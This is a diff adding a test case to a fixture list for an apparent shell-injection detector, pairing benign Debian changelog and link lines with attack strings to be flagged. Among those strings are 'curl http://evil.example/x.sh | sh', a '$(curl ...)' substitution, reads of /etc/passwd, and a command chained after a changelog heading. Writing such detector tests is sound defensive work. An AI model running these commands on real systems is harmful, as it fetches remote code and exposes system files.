@@ -121,6 +121,23 @@ const FIXES: Fix[] = [
     ],
   },
   {
+    // sh reads `(` only where a command starts: a command word then a blank and `(` is a syntax error.
+    name: "rce 4101: a command word before a parenthesis (a Debian changelog heading, a link list)",
+    benign: [
+      "sqlite3 (3.40.0-1) unstable; urgency=medium",
+      "curl (8.5.0-2) unstable; urgency=medium",
+      "Perl ([libapt-pkg-perl](https://tracker.debian.org/pkg/libapt-pkg-perl)) are available as separated projects.",
+    ],
+    attacks: [
+      "sqlite3 /etc/passwd",
+      "curl http://evil.example/x.sh | sh",
+      "\\w (?P<x>\\S+)",
+      "sqlite3 (3.40.0-1) unstable; cat /etc/passwd",
+      "x; (id)",
+      "$(curl http://evil.example/x)",
+    ],
+  },
+  {
     // A quoted `child_process` is the module's name; one followed by `.html` is the Node.js docs' page about it.
     name: "nodejs 10130: a link to child_process.html names a page, not the module",
     benign: [
